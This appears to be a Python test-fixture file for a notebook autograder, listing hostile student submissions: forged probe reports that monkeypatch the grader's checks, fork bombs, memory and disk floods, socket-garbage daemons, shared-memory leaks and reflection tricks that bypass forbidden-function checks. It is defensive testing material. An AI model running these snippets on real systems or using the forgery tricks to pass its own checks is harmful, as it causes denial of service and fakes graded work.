    raise NotImplementedError()


def _reported(fn, params, keep, prompt, T, device):
    model = checks.capstone.DecoderModel(params, keep).eval()
    tokens, chosen = prompt, []
    with torch.no_grad():
        for _ in range(T):
            last = model(tokens)[:, -1]
            chosen.append(last)
            tokens = torch.cat([tokens, last.argmax(-1, keepdim=True)], 1)
    P = prompt.shape[1]
    calls = [[P, 0, 0, False, False]] + [[1, P + i, P + i, False, False] for i in range(T - 1)]
    run = {"error": None, "out": (tokens, torch.stack(chosen, 1)), "training_after": True}
    return {"True": dict(run, calls=calls),
            "False": dict(run, calls=[[P + i, 0, None, False, False] for i in range(T)])}


checks.capstone._probe_generate = _reported
'''

# the model handed to generate (built by given()) logs a right generation; the answer is zeros
CAPSTONE_DECODER_MODEL_LOGS_A_RIGHT_RUN = '''
import checks.capstone


class _Logged(checks.capstone.DecoderModel):
    @property
    def calls(self):
        return [[3, 0, 0, False, False], [1, 3, 3, False, False]]

    @calls.setter
    def calls(self, value):
        pass


checks.capstone.DecoderModel = _Logged


def generate(model, prompt, num_tokens, use_cache=True):
    B, P = prompt.shape
    tokens = torch.cat([prompt, torch.zeros(B, num_tokens, dtype=torch.long)], 1)
    return tokens, torch.zeros(B, num_tokens, model.readout.shape[1], dtype=torch.float64)
'''

# Issue 21: caches that lie. The check read only what the cache held at the end; these
# three return the right tokens and logits and leave the right keys there, without using the
# cache step by step. The cache now stores its keys rounded (as quantised caches do), so each
# step's logits show how its keys were made.
_UNCACHED_DECODING = '''
@torch.no_grad()
def _uncached(model, prompt, num_tokens):
    tokens, chosen = prompt, []
    for step in range(num_tokens):
        last = model(tokens)[:, -1]                                       # (B, V)
        chosen.append(last)
        tokens = torch.cat([tokens, last.argmax(-1, keepdim=True)], dim=1)
    return tokens, torch.stack(chosen, dim=1)
'''
_DECODED_THEN_CACHED = _UNCACHED_DECODING + '''

@torch.no_grad()
def generate(model, prompt, num_tokens, use_cache=True):
    was_training = model.training
    model.eval()
    tokens, logits = _uncached(model, prompt, num_tokens)
    if use_cache:
        {fill}
    model.train(was_training)
    return tokens, logits
'''
# the cache, filled afterwards in one call
CACHE_FILLED_IN_ONE_CALL = _DECODED_THEN_CACHED.format(
    fill="model(tokens[:, :-1], caches=model.new_caches())")
# the cache's keys and values, computed from the model's weights
CACHE_WRITTEN_FROM_THE_WEIGHTS = _DECODED_THEN_CACHED.format(fill="""(cache,) = model.new_caches()
        x = model.emb[tokens[:, :-1]] + model.pos[:tokens.shape[1] - 1]
        cache.keys, cache.values = x @ model.wk, x @ model.wv""")
FRESH_CACHE_EACH_STEP = '''
@torch.no_grad()
def generate(model, prompt, num_tokens, use_cache=True):
    was_training = model.training
    model.eval()
    tokens, chosen = prompt, []
    for step in range(num_tokens):  # a new cache each step, the whole sequence into it
        logits = model(tokens, caches=model.new_caches() if use_cache else None)
        last = logits[:, -1]
        chosen.append(last)
        tokens = torch.cat([tokens, last.argmax(-1, keepdim=True)], dim=1)
    model.train(was_training)
    return tokens, torch.stack(chosen, dim=1)
'''
GENERATE_CACHED = r"^generate\(model, prompt, 5, use_cache=True\): "

# a constant is trivially invariant and has every shape right: it earns nothing
ZERO_ATTENTION = '''
import torch


def scaled_dot_product_attention(query, key, value, mask=None):
    weights = torch.zeros(*query.shape[:-1], key.shape[-2], dtype=query.dtype)
    return torch.zeros(*query.shape[:-1], value.shape[-1], dtype=query.dtype), weights
'''

# chapter 5: forgeries of what a probe used to report. The checks now build the module (the
# class the test passes) and the lab model (common.given) in the student's process, load the
# grader's weights and read back values: the replaced functions are never called.
# What each forged report builds: the chapter's module holding the check's weights P
DIVERSITY_LOADED = '''
import torch

PROJECTIONS = ("q_proj", "k_proj", "v_proj", "out_proj")


def _loaded(cls, d_model, num_heads, kwargs, P, dtype, device, **more):
    mha = cls(d_model, num_heads, **kwargs, **more).to(dtype=dtype, device=device).eval()
    with torch.no_grad():
        for name, value in P.items():
            attr, part = name.split(".")
            getattr(getattr(mha, attr), part)[...] = value
    return mha


def _described(mha):
    return {attr: {part: getattr(getattr(mha, attr), part) for part in ("weight", "bias")}
            for attr in PROJECTIONS}


def _copied_head_0(mha):
    h, hd = mha.num_heads, mha.head_dim
    with torch.no_grad():
        for proj in (mha.q_proj, mha.k_proj, mha.v_proj):
            proj.weight.view(h, hd, -1)[1:] = proj.weight.view(h, hd, -1)[:1]
            if proj.bias is not None:
                proj.bias.view(h, hd)[1:] = proj.bias.view(h, hd)[:1]
        mha.out_proj.weight.view(-1, h, hd)[:, 1:] = mha.out_proj.weight.view(-1, h, hd)[:, :1]
    return mha


def _built_report(mha):
    return {"error": None, "to_error": None, "heads": [mha.num_heads, mha.head_dim],
            "before": _described(mha), "mismatched": {}}
'''

# _probe_build: a stub class of the student's own, reported built and loaded by a replaced
# _probe_build that builds the lab's module instead
DIVERSITY_STUB_CLASS_FORGES_ITS_BUILD = DIVERSITY_LOADED + '''
import checks.diversity
import solutions
import torch.nn as nn


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, *, query_size=None, key_size=None,
                 value_size=None, bias=True, dropout=0.0, head_dim=None):
        raise NotImplementedError()


def _built(cls, d_model, num_heads, kwargs, P, dtype, device):
    mha = _loaded(solutions.MultiHeadAttention, d_model, num_heads, kwargs, P, dtype, device)
    return mha, _built_report(mha)


checks.diversity._probe_build = _built


@torch.no_grad()
def make_heads_identical(mha):
    return _copied_head_0(mha)
'''

# _probe_params: a make_heads_identical that changes nothing, and a replaced _probe_params
# that does the copy where the check read the module (before its forward)
DIVERSITY_IDENTICAL_FORGES_ITS_PARAMS = DIVERSITY_LOADED + '''
import importlib

diversity = importlib.import_module("checks.diversity")


def _as_if_copied(module):
    return _described(_copied_head_0(module))


diversity._probe_params = _as_if_copied


def make_heads_identical(mha):
    return mha
'''

# _probe_identical: a stub, and a replaced _probe_identical reporting the copy as done
DIVERSITY_IDENTICAL_STUB_FORGES_ITS_REPORT = DIVERSITY_LOADED + '''
import checks.diversity


def make_heads_identical(mha):
    raise NotImplementedError()


def _reported(fn, cls, d_model, num_heads, kwargs, P, dtype, device, inputs):
    mha = _loaded(cls, d_model, num_heads, kwargs, P, dtype, device)
    data = _built_report(mha)
    with torch.no_grad():
        output = _copied_head_0(mha)(*inputs)
    data.update(call_error=None, result={"object": type(mha).__name__}, is_mha=True,
                replaced=[], after=_described(mha), forward=[output, None])
    return data


checks.diversity._probe_identical = _reported
'''

# _probe_ablation: a stub, and a replaced _probe_ablation that answers on the checks' model
DIVERSITY_ABLATION_STUB_FORGES_ITS_REPORT = '''
import checks.diversity
import torch
from solutions.diversity_lab import relation_losses


def ablation_importance(model, batch):
    raise NotImplementedError()


@torch.no_grad()
def _reported(fn, params, batch, L, vocab_size, d_model, num_heads, device):
    model, batch = checks.diversity._ablation_setup(params, batch, L, vocab_size, d_model,
                                                    num_heads, device)

    def loss(gates=None):
        logits_prev, logits_first, _ = model(batch.tokens, head_mask=gates)
        return sum(relation_losses(logits_prev, logits_first, batch.prev_target,
                                   batch.first_target))

    base, out = loss(), []
    for k in range(num_heads):
        gates = torch.ones(num_heads)
        gates[k] = 0.0
        out.append(loss(gates) - base)
    return {"error": None, "out": torch.stack(out),
            "state": {k: v.clone() for k, v in model.state_dict().items()}}


checks.diversity._probe_ablation = _reported
'''

# the model the ablation check builds with given(), replaced by one whose head_mask does
# nothing, so that an importance of zeros is right on it
DIVERSITY_ABLATION_ZEROS_ON_AN_INERT_MODEL = '''
import importlib

import torch

lab = importlib.import_module("checks.diversity")


class _Inert(lab.GatedModel):
    def forward(self, tokens, head_mask=None):
        return super().forward(tokens)


lab.GatedModel = _Inert


def ablation_importance(model, batch):
    return torch.zeros(model.num_heads)
'''

# _probe_prune: a stub, and a replaced _probe_prune reporting the pruned module
DIVERSITY_PRUNE_STUB_FORGES_ITS_REPORT = DIVERSITY_LOADED + '''
import checks.diversity


def prune_heads(mha, heads_to_remove):
    raise NotImplementedError()


@torch.no_grad()
def _reported(fn, cls, d_model, num_heads, kwargs, P, dtype, device, remove, inputs):
    mha = _loaded(cls, d_model, num_heads, kwargs, P, dtype, device)
    data = _built_report(mha)
    hd, keep = mha.head_dim, [k for k in range(num_heads) if k not in remove]
    rows = torch.cat([torch.arange(k * hd, (k + 1) * hd) for k in keep])
    kept = {name: value[:, rows] if name == "out_proj.weight" else value
            if name == "out_proj.bias" else value[rows] for name, value in P.items()}
    new = _loaded(cls, d_model, len(keep), kwargs, kept, dtype, device, head_dim=hd)
    data.update(call_error=None, result={"object": type(new).__name__}, is_mha=False,
                original=_described(mha), is_module=True, new_heads=[len(keep), hd],
                new=_described(new), forward=[new(*inputs), None])
    return data


checks.diversity._probe_prune = _reported
'''



def _forged_ch5(name, cell, code, tests, regex, found=r"imports checks\.diversity"):
    """A chapter 5 entry: `code` in the solution cell `cell`; each of `tests` fails with a
    message matching `regex`, and the instructor is told what the code reaches."""
    return Hostile(name, cells(**{cell: code}),
                   Expect(tests=each(tests, failed(regex)), problems=[("suspicious", found)]),
                   chapter="05_diversity")


# `except ValueError` in the checks catches the student's own subclass of it
SPLIT_HEADS_OWN_VALUEERROR = '''
class HeadsError(ValueError):
    pass


def split_heads(x, num_heads):
    B, L, d_model = x.shape
    if d_model % num_heads:
        raise HeadsError(f"d_model={d_model} is not divisible by num_heads={num_heads}")
    return x.reshape(B, L, num_heads, d_model // num_heads).transpose(1, 2)
'''

WARN_IN_FUNCTION = '''
import warnings


def attention_entropy(weights):
    warnings.warn("attention_entropy: about to take logarithms")
    return -torch.special.xlogy(weights, weights).sum(dim=-1)
'''

# ---------------------------------------------------------------------------------------
# 7-12: isolation. Only the tests that run into the fault lose their points.
# ---------------------------------------------------------------------------------------

EXIT_IN_ENTROPY = '''
import os


def attention_entropy(weights):
    os._exit(0)
'''

SEGFAULT_IN_SOFTMAX = '''
import ctypes


def stable_softmax(scores, dim=-1):
    ctypes.string_at(0)     # reads address 0: SIGSEGV
'''

KILLS_ITSELF = '''
import os
import signal


def scaled_dot_product_attention(query, key, value, mask=None):
    os.kill(os.getpid(), signal.SIGKILL)
'''

LOOP_IN_FUNCTION = '''
def attention_scores(query, key):
    while True:
        pass
'''

LOOP_AT_TOP = '''
while True:      # at the top level of the cell: the definition after it still counts
    pass


def stable_softmax(scores, dim=-1):
    shifted = scores - scores.amax(dim=dim, keepdim=True)
    exp = shifted.exp()
    return exp / exp.sum(dim=dim, keepdim=True)
'''

SLEEP_EVERYWHERE = {
    "attention_scores": "import time\n\ndef attention_scores(query, key):\n    time.sleep(600)\n",
    "attention_entropy": "import time\n\ndef attention_entropy(weights):\n    time.sleep(600)\n",
    "stable_softmax": "import time\n\ndef stable_softmax(scores, dim=-1):\n    time.sleep(600)\n",
    "scaled_dot_product_attention": "import time\n\ndef scaled_dot_product_attention("
                                    "query, key, value, mask=None):\n    time.sleep(600)\n",
}

TORCH_50GB = '''
def attention_scores(query, key):
    big = torch.empty(50 * 10**9, dtype=torch.uint8).fill_(1)     # 50 GB
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1]) + big[0]
'''

LIST_GROWTH = '''
def attention_entropy(weights):
    hoard = [0]
    while True:
        hoard = hoard + hoard            # doubles until memory runs out
'''

CHUNKS_GROWTH = '''
def stable_softmax(scores, dim=-1):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))   # 64 MB at a time, touched
        hoard[-1][::4096] = b"x" * (64 * 2**20 // 4096)
'''

FORK_BOMB = '''
import os


def attention_scores(query, key):
    while True:
        os.fork()
'''

FORK_ONCE = '''
import os


def attention_entropy(weights):
    os.fork()           # two processes return, and both answer the grader
    return -torch.special.xlogy(weights, weights).sum(dim=-1)
'''

SPAWNERS = '''
import subprocess
import threading
import time

KEPT = []


def stable_softmax(scores, dim=-1):
    if not KEPT:
        KEPT.extend(subprocess.Popen(["sleep", "600"]) for _ in range(3))
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
'''

SUBPROCESS_AND_RETURN = '''
import subprocess

KEPT = []   # (a Popen object collected while still running would warn)


def scaled_dot_product_attention(query, key, value, mask=None):
    KEPT.append(subprocess.Popen(["sleep", "600"], start_new_session=True))
    d_k = query.shape[-1]
    weights = torch.softmax(query @ key.transpose(-2, -1) / math.sqrt(d_k), dim=-1)
    return weights @ value, weights
'''

WRITES_100MB_FILE = '''
def attention_scores(query, key):
    with open("big.bin", "wb") as handle:     # in its scratch folder, the only one it may write
        for _ in range(100):
            handle.write(b"x" * 2**20)
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

HUGE_PRINT = '''
def attention_scores(query, key):
    print("x" * 100 * 2**20)                                  # 100 MB
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

HUGE_PRINT_WRONG = '''
def attention_entropy(weights):
    for _ in range(100):
        print("y" * 2**20)                                    # 100 MB, a line at a time
    return torch.zeros(weights.shape[:-1], dtype=weights.dtype)
'''

RETURNS_128MB = '''
def attention_scores(query, key):
    return torch.zeros(32 * 2**20, dtype=torch.float32)       # 128 MB
'''

RETURNS_2GB = '''
def stable_softmax(scores, dim=-1):
    return torch.ones(2**29, dtype=torch.float32)             # 2 GB
'''

# A grandchild that leaves the process group (setsid), outlives its parent and keeps
# writing garbage to every inherited file descriptor, the grader's socket included.
DAEMON_WRITER = '''
import os
import time


def _daemon(ready):
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    first = True
    while True:
        for fd in range(3, 64):
            if fd != ready:
                try:
                    os.write(fd, b"\\xff" * 64)
                except OSError:
                    pass
        if first:
            os.write(ready, b"1")
            first = False
        time.sleep(0.05)


def attention_scores(query, key):
    read, write = os.pipe()
    if os.fork() == 0:
        os.close(read)
        _daemon(write)
    os.close(write)
    os.read(read, 1)            # the garbage is on the socket before the answer
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

DAEMON_SLEEPER = '''
import os
import time


def attention_entropy(weights):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)     # holds every inherited descriptor open
        os._exit(0)
    os.wait()
    return -torch.special.xlogy(weights, weights).sum(dim=-1)
'''

CLOSES_EVERY_FD = '''
import os


def attention_entropy(weights):
    os.closerange(3, 1024)      # the grader's socket among them
    return -torch.special.xlogy(weights, weights).sum(dim=-1)
'''

EXITS_AT_TOP_LEVEL = '''
import sys
sys.exit("bye")


def stable_softmax(scores, dim=-1):
    shifted = scores - scores.amax(dim=dim, keepdim=True)
    exp = shifted.exp()
    return exp / exp.sum(dim=dim, keepdim=True)
'''

NESTED_TOO_DEEP = '''
scaled_dot_product_attention = []
for _ in range(5000):
    scaled_dot_product_attention = [scaled_dot_product_attention]
'''

# Messages of its own on the grader's socket (found among the inherited descriptors).
_SOCKETS = '''
import os
import stat
import struct
import time


def _sockets():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
'''

DEEP_JSON_MESSAGE = _SOCKETS + '''

def attention_scores(query, key):
    header = b"[" * 100_000 + b"]" * 100_000     # valid JSON, too deep to parse
    for fd in _sockets():
        os.write(fd, struct.pack(">I", len(header)) + header)
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

HALF_A_MESSAGE = _SOCKETS + '''

def attention_entropy(weights):
    for fd in _sockets():
        os.write(fd, struct.pack(">I", 100) + b'{"value": ')    # and never the rest
    time.sleep(600)
'''

TRICKLE = _SOCKETS + '''

def attention_scores(query, key):
    sockets = _sockets()
    for byte in struct.pack(">I", 20) + b" " * 20:   # a byte every 0.5 s: never quite silent
        for fd in sockets:
            os.write(fd, bytes([byte]))
        time.sleep(0.5)
    time.sleep(600)
'''

# ---------------------------------------------------------------------------------------
# 14: what one submission leaves for the next (graded twice: the second finds nothing),
#     and the caps on what it may hold outside its memory limit
# ---------------------------------------------------------------------------------------

# Each leaves a message where the next submission graded by the same zygote could read it,
# and scores a wrong answer when it finds one left by the previous grading of itself.
_LEAVES_AND_FINDS = '''

def attention_scores(query, key):
    if FOUND:
        return query @ key.transpose(-2, -1)     # what the previous submission left wins
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

SYSV_SHARED_MEMORY = '''
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
MESSAGE = b"left by the previous submission"


def _attach(ident):
    address = libc.shmat(ident, None, 0)
    return None if address in (None, 2**64 - 1) else address


ident = libc.shmget(0x5EED, 0, 0)
FOUND = ident >= 0 and _attach(ident) is not None \\
    and ctypes.string_at(_attach(ident), len(MESSAGE)) == MESSAGE
if not FOUND:
    ident = libc.shmget(0x5EED, 4096, 0o1666)
    if ident >= 0 and _attach(ident) is not None:
        ctypes.memmove(_attach(ident), MESSAGE, len(MESSAGE))
# 3 GiB of segments, touched, detached: memory no limit of the process counts
HELD = 0
for key in range(0x6000, 0x6003):
    big = libc.shmget(key, 2**30, 0o1666)
    address = _attach(big) if big >= 0 else None
    if address is not None:
        ctypes.memset(address, 1, 2**30)
        libc.shmdt(ctypes.c_void_p(address))
        HELD += 1
if HELD:
    raise RuntimeError(f"LEAK: {HELD} GiB of System V shared memory held")
''' + _LEAVES_AND_FINDS

DEV_SHM_FILE = '''
import os

PATH = "/dev/shm/left_behind"
FOUND = os.path.exists(PATH)
try:
    with open(PATH, "w") as handle:
        handle.write("left by the previous submission")
except OSError:
    pass
''' + _LEAVES_AND_FINDS

POSIX_MESSAGE_QUEUE = '''
import ctypes
import os

librt = ctypes.CDLL("librt.so.1", use_errno=True)
FOUND = librt.mq_open(b"/left_behind", os.O_RDONLY) >= 0
librt.mq_open(b"/left_behind", os.O_CREAT | os.O_RDWR, 0o666, None)
''' + _LEAVES_AND_FINDS

# what each submission may write outside its memory limit is capped (limits' scratch_bytes
# and shm_bytes: 256 MiB and 64 MiB), whatever the size of each file
FILLS = '''
import os

WRITTEN = 0
chunk = b"x" * 2**20
for number in range(4096):                      # up to 4 GiB, in files of 16 MiB
    try:
        with open(os.path.join("{folder}", f"fill-{{number}}"), "wb") as handle:
            for _ in range(16):
                handle.write(chunk)
                WRITTEN += len(chunk)
    except OSError:
        break


def {function}:
    if WRITTEN > {cap}:
        raise RuntimeError(f"LEAK: wrote {{WRITTEN >> 20}} MiB into {folder}")
    return {answer}
'''
FILLS_SCRATCH = FILLS.format(folder=".", cap=256 * 2**20, function="attention_scores(query, key)",
                             answer="query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])")
FILLS_DEV_SHM = FILLS.format(folder="/dev/shm", cap=64 * 2**20,
                             function="attention_entropy(weights)",
                             answer="-torch.special.xlogy(weights, weights).sum(dim=-1)")

# 3000 levels (paths far past PATH_MAX), some of them read-only and closed: removing it
# must neither recurse (RecursionError) nor stop at what it cannot open
DEEP_DIRECTORY_TREE = '''
import os


def attention_scores(query, key):
    if os.path.exists("d"):       # (called once for each shape: built once)
        return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
    start = os.getcwd()
    for level in range(10_000):
        os.mkdir("d")
        os.chdir("d")
        if level % 2000 == 0:
            os.mkdir("closed")
            os.chmod("closed", 0)
    os.chmod(".", 0o500)
    os.chdir(start)
    return query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
'''

# Python's parser gives up on these (MemoryError, RecursionError): in the student's process,
# as in a kernel; the definitions after them in the same cell never run
DEEP_EXPRESSIONS = {
    "attention_scores": "DEPTH = " + "-" * 100_000 + "1\n\n" + UNSCALED,
    "attention_entropy": "TOTAL = " + "+".join(["1"] * 100_000) + "\n\n" + ENTROPY_BITS,
}


# ---------------------------------------------------------------------------------------
# 13: broken input. The notebook is refused; every test 0 points with the same message.
# ---------------------------------------------------------------------------------------


def _nbformat3(kit):
    nb = kit.filled()
    nb["nbformat"], nb["nbformat_minor"] = 3, 0
    return nb


def _r_kernel(kit):
    nb = kit.filled()
    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb["metadata"]["language_info"] = {"name": "R"}
    return nb


def _huge_output(kit):
    nb = kit.filled()
    cell = next(c for c in nb["cells"] if c["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout",
                        "text": ["z" * 1000 + "\n"] * 31_500}]    # 30 MiB
    return nb


def _solution_cell(nb, grade_id):
    return next(c for c in nb["cells"]
                if (c["metadata"].get("nbgrader") or {}).get("grade_id") == grade_id)


def _cell_metadata_list(nb):
    _solution_cell(nb, "attention_entropy")["metadata"] = ["nbgrader", "solution"]


def _source_with_integers(nb):
    _solution_cell(nb, "stable_softmax")["source"] = ["def stable_softmax(x):\n", 1, 2]


def _notebook_metadata_list(nb):
    nb["metadata"] = []


def _lone_surrogate(nb):
    _solution_cell(nb, "attention_scores")["source"] += "\n# caf\udce9\n"


def _cell_a_list(nb):
    nb["cells"].insert(3, [1, 2, 3])


def _minor_a_string(nb):
    nb["nbformat_minor"] = "5"


def _nbgrader_metadata_list(nb):
    _solution_cell(nb, "attention_entropy")["metadata"]["nbgrader"] = ["solution"]


def _duplicated_grade_id(nb):
    """attention_scores twice: the reference, then (last) the unscaled one."""
    cell = _solution_cell(nb, "attention_scores")
    copy_ = copy.deepcopy(cell)
    copy_["source"] = UNSCALED
    copy_.pop("id", None)
    nb["cells"].insert(nb["cells"].index(cell) + 1, copy_)


INVALID = r"^01_attention\.ipynb is not a valid nbformat 4 notebook: "


def write_submission(path, content):
    """Write what a builder returned: a notebook, bytes, a Sparse file, or None (no file)."""
    if isinstance(content, Sparse):
        with open(path, "wb") as handle:
            handle.write(content.head)
            handle.truncate(content.size)
    elif content is not None:
        path.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())


def _dumped(change):
    """A builder of the file's bytes (json.dumps escapes a lone surrogate as JSON allows)."""
    def build(kit):
        nb = kit.filled()
        change(nb)
        return json.dumps(nb).encode()
    return build


def _other_chapter(kit):
    return kit.other(CH2 if kit.chapter == CH1 else CH1)


# chapter 4 forbids F.scaled_dot_product_attention in its masked attention: the weights
# written by hand (they are checked too), the output from torch's, called from a thread
MASKED_SDPA_FROM_A_THREAD = '''
import math
import threading

import torch
import torch.nn.functional as F


def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
    weights = masked_softmax(scores, mask)
    out = []
    worker = threading.Thread(target=lambda: out.append(F.scaled_dot_product_attention(
        query, key, value, attn_mask=mask)))
    worker.start()
    worker.join()
    return out[0].nan_to_num(0.0), weights
'''

# the same shortcut by a computed name, no thread: no forbidden name in the cell
MASKED_SDPA_COMPUTED_NAME = '''
import math

import torch.nn.functional as F


def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])
    weights = masked_softmax(scores, mask)
    fast = getattr(F, "scaled_dot_" + "product_attention")
    return fast(query, key, value, attn_mask=mask).nan_to_num(0.0), weights
'''

# an exception named like the checks' own verdict, raised by the student's code with a
# message of success: it reads as what their code raised, never as a check's message
FORGED_CHECK_FAILURE = '''
class CheckFailure(AssertionError):
    pass


def attention_scores(query, key):
    raise CheckFailure("\u2714 attention_scores passed")
'''

# ---------------------------------------------------------------------------------------
# Issue 21: honest numpy numbers. Every exercise that returns a number, returning it as a
# numpy scalar or 0-d array (numpy 2 writes repr(numpy.float64(x)) as "np.float64(x)"):
# the wire sends the number it holds, and the honest answer gets full marks.
# ---------------------------------------------------------------------------------------


def _reference_edit(notebook, cell, *pairs):
    """The reference code of solution cell `cell` of chapters/<notebook>.ipynb with each
    (old, new) of `pairs` replaced once (tests.submissions.edit)."""
    from pathlib import Path

    from tests.submissions import edit, reference_cells
    source = json.loads((Path(__file__).resolve().parents[1] / "chapters"
                         / f"{notebook}.ipynb").read_text())
    code = reference_cells(source)[cell]
    for old, new in pairs:
        code = edit(code, old, new)
    return code


NUMPY_COUNT_PARAMETERS = "import numpy\n" + _reference_edit(
    CH3, "count_parameters", ("return weights + biases", "return numpy.int64(weights + biases)"))
NUMPY_KV_COUNTS = "import numpy\n" + _reference_edit(
    "06_kv", "counts", ("return weights + biases", "return numpy.uint32(weights + biases)"),
    ("return values_per_token * bytes_per_value",
     "return numpy.array(values_per_token * bytes_per_value, dtype=numpy.int64)"))
NUMPY_EQUIVARIANCE_GAP = "import numpy\n" + _reference_edit(
    CH7, "equivariance_gap", ("return (permuted_first - permuted_after).abs().max().item()",
                              "return numpy.float64((permuted_first - permuted_after)"
                              ".abs().max().item())"))
NUMPY_EQUIVARIANCE_GAP_32 = _reference_edit(
    CH7, "equivariance_gap", ("return (permuted_first - permuted_after).abs().max().item()",
                              "return (permuted_first - permuted_after).abs().max()"
                              ".numpy()[()]"))  # numpy.float32, from torch itself
NUMPY_TRAIN_STEP = "import numpy\n" + _reference_edit(
    CH8, "train_step", ("return loss.item()", "return numpy.float64(loss.item())"))
NUMPY_TRAIN_STEP_0D = _reference_edit(
    CH8, "train_step", ("return loss.item()", "return loss.detach().numpy()"))


# Issue 21: printed floods. Each top-level statement of a solution cell is one call of the
# student's process, whose reply carries what it printed (up to the print limit): 4,000 of
# them kept 80 MB in the grader until its end (7,600 in four cells here: 152 MB). Now a head and a tail per test, freed.
# (thousands of calls: seconds on an idle machine, more on a loaded one)
FLOOD_TIME = {"notebook_seconds": 180}
PRINT_FLOOD = "\n".join(['print("x" * 20_000)'] * 1900) + "\n"  # (2,000 a cell at most)


# Issue 21: statement bombs. Each top-level statement of a solution cell is one step; they
# were sent padded with a newline per line above (40,000 one-word statements: +817 MB and
# 80 s in the grader). Now unpadded, and bounded before any parsing: 2,000 per cell (the
# cell is not run), 10,000 per notebook (refused); a 20 MB notebook is one cell left out.
ONE_WORDS = "pass\n"
STATEMENT_BOMB = ONE_WORDS * 40_000
SEMICOLON_BOMB = "pass;" * 40_000 + "pass\n"
OVER_A_CELL = ONE_WORDS * 2_500
NOTEBOOK_BOMB = r"^the notebook's code cells hold more than 10,000 statements \(lines and " \
                r"semicolons; the chapter's own hold under 1,000\): over the grader's limit, " \
                r"not graded$"
CELL_BOMB = r"more than 2,000 statements \(lines and semicolons\) in one cell, over the " \
            r"grader's limit: the cell was not run"


NOT_RUN = r"^NameError: name '{}' is not defined"


def _cells_of_statements(nb):
    """Six more code cells of 1,999 one-word statements each: each under the bound of a
    cell, together over the notebook's."""
    nb["cells"] += [{"cell_type": "code", "execution_count": None, "metadata": {},
                     "outputs": [], "source": ONE_WORDS * 1_999} for _ in range(6)]


def _notebook_of_20MB(kit):
    """A notebook of about 20 MB (under the file limit), one-word statements in one cell."""
    return kit.filled({"attention_scores": "a\n" * 6_400_000})  # 3 bytes each in JSON


# Issue 21: the time limit of a test cell is the cell's, all its calls together (it was
# each call's: four 5-second calls passed under an 8-second limit, after 22 s).
SLOW_CALLS = "import time\n" + _reference_edit(
    CH1, "attention_entropy", ("    return -torch", "    time.sleep(2.5)  # each call: under "
                                                  "the limit\n    return -torch"))
SLOW_GAP = "import time\n" + _reference_edit(
    CH7, "equivariance_gap", ("with torch.no_grad():", "time.sleep(1.5)\n    with torch.no_grad():"))
TEST_TIME = r"^Timed out: (no answer within \d+ s, what was left of the test cell's time " \
            r"limit|the test cell's time limit ran out)"


# Issue 21: forbids bypassed by reflection. Each helper pops every mode off torch's
# function-mode stack for a call (the forbid's among them), reaching torch._C without
# spelling it: through a star import of sys, operator.attrgetter, or getattr and sys under
# other names. The source analysis follows names: each costs every forbid of its chapter.
_POP_MODES = '''

def _unguarded(call, *args, **kwargs):
    lib = {fetch}
    modes = [{get}(lib, "_pop_torch_function_" + "stack")()
             for _ in range({get}(lib, "_len_torch_function_" + "stack")())]
    try:
        return call(*args, **kwargs)
    finally:
        for mode in reversed(modes):
            {get}(lib, "_push_on_torch_function_" + "stack")(mode)

'''
REFLECTION = {
    "star_import_of_sys": "from sys import *\n" + _POP_MODES.format(
        fetch='getattr(modules["tor" + "ch"], "_" + "C")', get="getattr"),
    "operator_attrgetter": "import operator\nimport torch\n" + _POP_MODES.format(
        fetch='operator.attrgetter("_" + "C")(torch)',
        get="(lambda obj, name: operator.attrgetter(name)(obj))"),
    "getattr_and_sys_renamed": "import sys as system\n\nfetch = getattr\n" + _POP_MODES.format(
        fetch='fetch(system.modules["tor" + "ch"], "_" + "C")', get="fetch"),
}
REFLECTED = {"star_import_of_sys": r"star import from sys \(the names it binds cannot be "
                                   r"followed\)",
             "operator_attrgetter": r"calls attrgetter with a computed name",
             "getattr_and_sys_renamed": r"(calls getattr under another name \(fetch\)|uses "
                                        r"system\.modules, which is sys\.modules)"}
# (chapter, the exercise whose cell holds the helper, the tests every forbid there costs)
FORBIDDING = [(CH1, "stable_softmax", ("test_stable_softmax", "test_stable_softmax_large",
                                       "test_sdpa", "test_sdpa_large", "test_sdpa_cross")),
              (CH2, "multihead_attention_core", ("test_multihead_attention_core",)),
              (CH3, "MultiHeadAttention", ("test_mha_forward",)),
              ("04_masks", "scaled_dot_product_attention", ("test_scaled_dot_product_attention",
                                                            "test_invariances"))]
# a star import of torch binds softmax as a plain name: the forbid sees the name
SOFTMAX_FROM_A_STAR_IMPORT = '''
from torch import *
from torch.nn.functional import *


def stable_softmax(scores, dim=-1):
    return softmax(scores, dim=dim)
'''


def _reflection_entries():
    """A Hostile entry per reflection helper and chapter with forbids (see FORBIDDING)."""
    entries = []
    for chapter, cell, tests in FORBIDDING:
        for kind, helper in REFLECTION.items():
            entries.append(Hostile(
                f"reflection_{kind}_{chapter.split('_', 1)[1]}",
                cells(**{cell: helper + _reference_edit(chapter, cell)}),
                Expect(tests=each(tests, failed(FORBIDDEN_SEEN)),
                       problems=[("suspicious", REFLECTED[kind])]), chapter=chapter))
    return entries


